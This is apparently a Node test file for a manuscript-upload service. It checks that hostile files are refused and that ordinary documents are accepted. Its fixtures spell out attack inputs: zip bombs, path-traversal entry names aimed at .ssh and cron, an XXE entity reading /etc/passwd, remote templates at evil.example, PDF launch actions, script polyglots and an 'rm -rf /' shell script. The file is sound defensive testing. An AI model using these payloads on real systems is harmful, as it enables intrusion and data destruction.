import assert from 'node:assert/strict';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { before, beforeEach, describe, test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { Document, ExternalHyperlink, InsertedTextRun, Packer, Paragraph, TextRun } from 'docx';
import { aCommande } from '#modules/commandes/factory.ts';
import { startTestApp, type TestApp } from '#test/app.ts';
import { eachDatabase } from '#test/databases.ts';
import { compoundFile, docxOf } from './factory.ts';
import {
  craftedZip,
  docxWith,
  epubWith,
  gzipBomb,
  nothing,
  odtWith,
  pdfOf,
  plainZip,
  pngOf,
  relationships,
  templateAt,
  zip64OfAbsurdCount,
} from './hostile-files.fixture.ts';
import { ask, beginId, type Client, patch, patchAndBreakOff, refusalOf, sendFile } from './tus-client.fixture.ts';
import type { FileKind } from './upload-request.ts';

const ATTACHED = 'PIECE_JOINTE';
const LAUNCH = '1 0 obj <</Type/Action /S /Launch /F (cmd)>> endobj';
const objects = deflateSync(Buffer.from('1 0 2 40 <</S/Launch/Win<</P(x)>>>>'));
const packedPdf = pdfOf(
  `7 0 obj <</Type/ObjStm/N 2/First 8/Filter/FlateDecode/Length ${objects.length}>> stream\n`,
  objects,
);
const LAUGHS = '<!DOCTYPE html [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><html><p>&b;</p></html>';
const XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>';

type Hostile = readonly [what: string, code: string, filename: string, bytes: Buffer | string, kind?: FileKind];

const HOSTILE: readonly Hostile[] = [
  [
    'a zip bomb',
    'FILE_ARCHIVE_EXCESSIVE',
    'romans.zip',
    craftedZip([{ name: 'a.txt', content: nothing(64), deflate: true }]),
  ],
  [
    'a .docx bomb',
    'FILE_ARCHIVE_EXCESSIVE',
    'roman.docx',
    docxWith([{ name: 'word/document.xml', content: nothing(64), deflate: true }]),
  ],
  [
    'an .odt bomb',
    'FILE_ARCHIVE_EXCESSIVE',
    'roman.odt',
    odtWith([{ name: 'styles.xml', content: nothing(64), deflate: true }]),
  ],
  [
    'a bomb in the part that says what a .docx is',
    'FILE_ARCHIVE_EXCESSIVE',
    'roman.docx',
    docxWith([{ name: '[Content_Types].xml', content: nothing(64), deflate: true }]),
  ],
  [
    'an archive that announces 4 GB',
    'FILE_ARCHIVE_EXCESSIVE',
    'romans.zip',
    craftedZip([{ name: 'a.txt', content: 'x', deflate: true, unpacked: 4e9 }]),
  ],
  [
    'a bomb that lies about its size',
    'FILE_DAMAGED',
    'romans.zip',
    craftedZip([{ name: 'a.txt', content: nothing(64), deflate: true, unpacked: 70_000 }]),
  ],
  [
    'entries that share their bytes',
    'FILE_DAMAGED',
    'romans.zip',
    craftedZip([
      { name: 'a.txt', content: nothing(8), deflate: true },
      { name: 'b.txt', content: nothing(8), deflate: true, sameBytesAs: 0 },
    ]),
  ],
  [
    'an archive in an archive',
    'FILE_ARCHIVE_NESTED',
    'romans.zip',
    craftedZip([{ name: 'lib 0.zip', content: plainZip() }]),
  ],
  ['2^50 entries', 'FILE_ARCHIVE_EXCESSIVE', 'romans.zip', zip64OfAbsurdCount()],
  ['an archive cut short', 'FILE_DAMAGED', 'roman.docx', docxWith([]).subarray(0, 300)],
  ['a gzip bomb', 'FILE_ARCHIVE_EXCESSIVE', 'romans.gz', gzipBomb()],
  ['a name that climbs out', 'FILE_ARCHIVE_UNSAFE', 'romans.zip', craftedZip([{ name: '../../.ssh/authorized_keys' }])],
  [
    'a name that climbs out as Windows does',
    'FILE_ARCHIVE_UNSAFE',
    'romans.zip',
    craftedZip([{ name: '..\\..\\roman.txt' }]),
  ],
  ['an absolute name', 'FILE_ARCHIVE_UNSAFE', 'romans.zip', craftedZip([{ name: '/etc/cron.d/roman' }])],
  [
    'a link',
    'FILE_ARCHIVE_UNSAFE',
    'romans.zip',
    craftedZip([{ name: 'roman.txt', content: '/etc/passwd', mode: 0o120777 }]),
  ],
  [
    'a .docx with macros',
    'FILE_MACROS_REFUSED',
    'roman.docx',
    docxWith([{ name: 'word/vbaProject.bin', content: 'x' }]),
  ],
  [
    'a .docx with macros under another name',
    'FILE_MACROS_REFUSED',
    'roman.docx',
    docxWith([{ name: 'word/_rels/document.xml.rels', content: relationships(['vbaProject', 'a.bin', false]) }]),
  ],
  [
    'an .odt with macros',
    'FILE_MACROS_REFUSED',
    'roman.odt',
    odtWith([{ name: 'Basic/Standard/Module1.xml', content: '<x/>' }]),
  ],
  [
    'a .doc with macros',
    'FILE_MACROS_REFUSED',
    'roman.doc',
    compoundFile(['Root Entry', 'WordDocument', '_VBA_PROJECT']),
  ],
  [
    'a .docx with an entity that is a file',
    'FILE_ACTIVE_CONTENT_REFUSED',
    'roman.docx',
    docxWith([{ name: 'word/document.xml', content: XXE, deflate: true }]),
  ],
  ['an .epub of a billion laughs', 'FILE_ACTIVE_CONTENT_REFUSED', 'roman.epub', epubWith(LAUGHS)],
  [
    'a .docx with a remote template',
    'FILE_ACTIVE_CONTENT_REFUSED',
    'roman.docx',
    docxWith([templateAt('https://evil.example/a.dotm')]),
  ],
  [
    'a .docx with a template on a share',
    'FILE_ACTIVE_CONTENT_REFUSED',
    'roman.docx',
    docxWith([templateAt('file:///\\\\evil.example\\a.dotm')]),
  ],
  [
    'a .docx with a template whose address is disguised',
    'FILE_ACTIVE_CONTENT_REFUSED',
    'roman.docx',
    docxWith([templateAt('&#x68;ttps://evil.example/a')]),
  ],
  ['a .pdf that launches', 'FILE_ACTIVE_CONTENT_REFUSED', 'roman.pdf', pdfOf(LAUNCH)],
  [
    'a .pdf that launches in disguise',
    'FILE_ACTIVE_CONTENT_REFUSED',
    'roman.pdf',
    pdfOf(LAUNCH.replace('Launch', 'L#61unch')),
  ],
  ['a .pdf that launches from a packed object', 'FILE_ACTIVE_CONTENT_REFUSED', 'roman.pdf', packedPdf],
  [
    'a .pdf that brings a program',
    'FILE_PROGRAM_REFUSED',
    'roman.pdf',
    pdfOf('<</Type/Filespec/F(facture.exe)/EF<</F 3 0 R>>>>'),
  ],
  [
    'a .pdf that is an archive',
    'FILE_AMBIGUOUS',
    'roman.pdf',
    Buffer.concat([pdfOf('1 0 obj <<>> endobj'), plainZip()]),
  ],
  ['a picture that is a script', 'FILE_AMBIGUOUS', 'a.gif', 'GIF89a=1;/*\0\0\0\0\0\0\0\0\0\0\0*/alert(1)', ATTACHED],
  [
    'a picture that is a page',
    'FILE_AMBIGUOUS',
    'a.gif',
    'GIF89a\x01\0\x01\0\0\0\0<html><script>alert(1)</script></html>',
    ATTACHED,
  ],
  ['a picture of 50,000 × 50,000', 'FILE_IMAGE_EXCESSIVE', 'a.png', pngOf(50_000, 50_000), ATTACHED],
  [
    'an .rtf with an OLE object',
    'FILE_ACTIVE_CONTENT_REFUSED',
    'roman.rtf',
    '{\\rtf1 {\\object\\objemb{\\*\\objdata 0105000002}}}',
  ],
  [
    'an .rtf with a remote template',
    'FILE_ACTIVE_CONTENT_REFUSED',
    'roman.rtf',
    '{\\rtf1{\\*\\template https://evil.example/a.dotm}a}',
  ],
  [
    'a drawing with a script',
    'FILE_TYPE_REFUSED',
    'roman.svg',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  ],
  ['a page called .txt', 'FILE_TYPE_REFUSED', 'roman.txt', '<!DOCTYPE html><script>alert(1)</script>'],
  ['a page called .doc', 'FILE_TYPE_REFUSED', 'roman.doc', '<html><body onload="alert(1)">'],
  ['a program of Windows', 'FILE_PROGRAM_REFUSED', 'roman.docx', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300)])],
  [
    'a program of Linux',
    'FILE_PROGRAM_REFUSED',
    'roman.pdf',
    Buffer.concat([Buffer.from('\x7fELF\x02'), Buffer.alloc(300)]),
  ],
  [
    'a program of macOS',
    'FILE_PROGRAM_REFUSED',
    'roman.odt',
    Buffer.concat([Buffer.from('cffaedfe', 'hex'), Buffer.alloc(300)]),
  ],
  ['a script of a shell', 'FILE_PROGRAM_REFUSED', 'roman.txt', '#!/bin/sh\nrm -rf /\n'],
  ['a text with two endings', 'FILE_PROGRAM_REFUSED', 'roman.pdf.exe', 'Longtemps'],
  ['a program behind letters that read backwards', 'FILE_PROGRAM_REFUSED', 'roman\u202Etxt.exe', 'Longtemps'],
];

const NAMES: readonly (readonly [given: string, kept: string])[] = [
  ['roman\u202Excod.exe', 'romanxcod.exe.docx'],
  ['ro\0man\x07.docx', 'roman.docx'],
  ['CON.docx', '_CON.docx'],
  ['../../etc/passwd', 'passwd.docx'],
  ['C:\\Users\\marcel\\roman.docx', 'roman.docx'],
  [`${'é'.repeat(400)}.docx`, `${'é'.repeat(250)}.docx`],
];

eachDatabase((database) => {
  // What is looked at never reaches the database: one is enough.
  if (database.name !== 'sqlite') return;

  describe('hostile files', () => {
    let app: TestApp;
    let server: string;
    let client: Client;
    let commandeId: string;
    before(async () => {
      app = await startTestApp(database);
      server = await app.listen();
    });
    beforeEach(async () => {
      client = { server, as: await app.signIn('USER') };
      commandeId = await aCommande(database.db, { client: client.as, statut: 'EN_COURS' });
      // The rows of the test before are gone already.
      for await (const { sha256 } of app.context.storage.list()) await app.context.storage.remove(sha256);
    });

    for (const [what, code, filename, given, kind = 'MANUSCRIT'] of HOSTILE) {
      test(`${what} is refused within a second, and nothing of it is left`, async () => {
        const bytes = typeof given === 'string' ? Buffer.from(given, 'latin1') : given;
        const start = performance.now();
        await assert.rejects(sendFile(client, { bytes, filename, commandeId, kind }), { code, status: 422 });
        const took = performance.now() - start;
        assert.ok(took < 1000, `it took ${Math.round(took)} ms`);
        await nothingIsLeft();
      });
    }

    test('more bytes than announced are refused, fewer make no file', async () => {
      const bytes = Buffer.from('Longtemps, je me suis couché de bonne heure.');
      const id = await beginId(client, { bytes, announced: 20, commandeId });
      assert.deepEqual(await refusalOf(await patch(client, id, 0, bytes)), [413, 'PAYLOAD_TOO_LARGE']);
      await patchAndBreakOff(client, id, bytes.subarray(0, 20), 10);
      assert.deepEqual(await database.db.selectFrom('files').select('id').execute(), []);
      await ask(client, 'DELETE', `/api/uploads/${id}`);
      await nothingIsLeft();
    });

    test('an empty file, or a name of 1,001 letters, is refused before a byte travels', async () => {
      const [bytes, filename] = [Buffer.from('Longtemps'), 'a'.repeat(1001)];
      await assert.rejects(sendFile(client, { bytes: Buffer.alloc(0), commandeId }), { code: 'FILE_EMPTY' });
      await assert.rejects(sendFile(client, { bytes, filename, commandeId }), { code: 'VALIDATION_FAILED' });
      await nothingIsLeft();
    });

    for (const [given, kept] of NAMES) {
      test(`the name ${JSON.stringify(given.slice(0, 40))} becomes a plain one`, async () => {
        const id = await sendFile(client, { bytes: await docxOf('Longtemps'), filename: given, commandeId });
        const { body } = await app.call({ url: `/api/files/${id}`, as: client.as });
        assert.equal(body.filename, kept);
        const { headers } = await ask(client, 'GET', `/api/files/${id}/content`);
        assert.match(headers.get('content-disposition') ?? '', /^attachment; filename=/);
        assert.equal(headers.get('x-content-type-options'), 'nosniff');
      });
    }

    test('a refusal is a sentence in the reader’s language', async () => {
      const bytes = docxWith([templateAt('https://evil.example/a.dotm')]);
      const detail = /^Ce document contient un modèle ou un objet distant, qui agirait à l’ouverture\u202F:/;
      await assert.rejects(sendFile(client, { bytes, filename: 'roman.docx', commandeId }), { detail });
    });

    async function nothingIsLeft(): Promise<void> {
      for (const table of ['uploads', 'files', 'file_versions', 'outbox_events'] as const)
        assert.deepEqual(await database.db.selectFrom(table).select('id').execute(), [], table);
      assert.deepEqual(await database.db.selectFrom('blobs').select('sha256').execute(), []);
      assert.deepEqual(await readdir(join(app.context.config.dataDir, 'uploads')).catch(() => []), []);
      for await (const { sha256 } of app.context.storage.list()) assert.fail(`bytes were left: ${sha256}`);
    }
  });

  describe('manuscripts as people write them', () => {
    let app: TestApp;
    let server: string;
    before(async () => {
      app = await startTestApp(database);
      server = await app.listen();
    });

    const HONEST: readonly (readonly [what: string, bytes: () => Buffer | Promise<Buffer>])[] = [
      ['a .docx with hyperlinks and tracked changes', linkedDocx],
      [
        'a .docx with the template of one’s own disk',
        () => docxWith([templateAt('file:///C:\\Users\\marcel\\Roman.dotm')]),
      ],
      [
        'a .docx that refers to a picture elsewhere',
        () =>
          docxWith([
            {
              name: 'word/_rels/document.xml.rels',
              content: relationships(['image', 'https://example.com/a.png', true]),
            },
          ]),
      ],
      [
        'an .odt with the empty libraries that some write',
        () => odtWith([{ name: 'Basic/Standard/script-lb.xml', content: '<x/>' }, { name: 'Configurations2/' }]),
      ],
      [
        'an .epub with a document type and a space as an entity',
        () =>
          epubWith(
            '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd" [<!ENTITY nbsp "&#160;">]><html/>',
          ),
      ],
      [
        'a .zip of chapters',
        () =>
          craftedZip([
            { name: 'romans/' },
            { name: 'romans/1.docx', content: plainZip() },
            { name: 'romans/2.txt', content: 'Longtemps '.repeat(9999), deflate: true },
          ]),
      ],
      [
        'a .pdf with a form and a link',
        () =>
          pdfOf('<</S/JavaScript/JS(this.x)>> <</S/URI/URI(https://example.com)>> <</Type/Filespec/F(annexe.docx)>>'),
      ],
      ['a .pdf that holds an archive', () => pdfOf('1 0 obj <<>> stream\n', plainZip(), '\nendstream endobj')],
      [
        'an .rtf with a picture',
        () => Buffer.from('{\\rtf1 {\\*\\template C:\\\\Modeles\\\\Roman.dot}{\\pict\\pngblip 89504e47}}'),
      ],
    ];
    for (const [what, make] of HONEST) {
      test(`${what} is accepted`, async () => {
        await assertAccepted({ bytes: await make(), filename: 'roman' });
      });
    }

    test('a picture that a scanner makes may be attached', async () => {
      await assertAccepted({ bytes: pngOf(14_000, 20_000), filename: 'page.png', kind: ATTACHED });
    });

    async function assertAccepted(file: { bytes: Buffer; filename: string; kind?: FileKind }): Promise<void> {
      const client = { server, as: await app.signIn('USER') };
      const commandeId = await aCommande(database.db, { client: client.as, statut: 'EN_COURS' });
      const id = await sendFile(client, { ...file, commandeId });
      const answer = await ask(client, 'GET', `/api/files/${id}/content`);
      assert.ok(file.bytes.equals(Buffer.from(await answer.arrayBuffer())));
    }
  });
});

function linkedDocx(): Promise<Buffer> {
  const link = new ExternalHyperlink({ link: 'https://example.com', children: [new TextRun('lien')] });
  const inserted = new InsertedTextRun({ text: 'ajout', id: 1, author: 'Marcel', date: '2026-01-01T00:00:00Z' });
  return Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph({ children: [link, inserted] })] }] }));
}
